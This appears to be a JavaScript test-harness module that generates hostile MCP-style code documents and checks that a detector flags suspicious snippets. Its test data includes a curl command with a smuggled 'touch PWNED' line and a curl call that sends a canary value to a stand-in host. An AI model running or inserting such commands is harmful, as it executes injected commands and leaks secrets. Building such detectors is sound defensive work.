import { drawCode } from "../code/draw-code.mjs";
import { judgeCode } from "../code/judge-code.mjs";
import { snippetFault } from "../code/snippet-fault.mjs";
import { broken, ok } from "../verdicts.mjs";

/** Documents that are hostile where requests, declarations, plans and cards are made of them. */
export const kind = "mcp";
export const name = "code-and-plans";

/** @type {import("../run-generator.mjs").Generator["controls"]} */
export const controls = [
  {
    name: "harmless code is made and runs",
    run: async (tools) => judgeCode(tools, { name: "harmless", document: tools.openapi() }),
  },
  {
    name: "code that does more is seen",
    run: async ({ folder }) => {
      const codes = [
        ["curl https://a.example\ntouch PWNED", "curl"],
        ['curl "https://a.example/$CANARY"', "curl"],
        ["curl -o x https://a.example", "curl"],
        ["await fetch('", "fetch"],
        ["export interface {", "ts"],
      ];
      const missed = codes.filter(([code = "", format]) => !snippetFault(code, format, folder));
      return missed.length === 0 ? ok("seen") : broken(`not seen: ${missed.join("; ")}`);
    },
  },
];

/** @type {import("../run-generator.mjs").Generator["make"]} */
export function make(draw) {
  const hostile = drawCode(draw);
  return { name: hostile.name, run: (tools) => judgeCode(tools, hostile) };
}
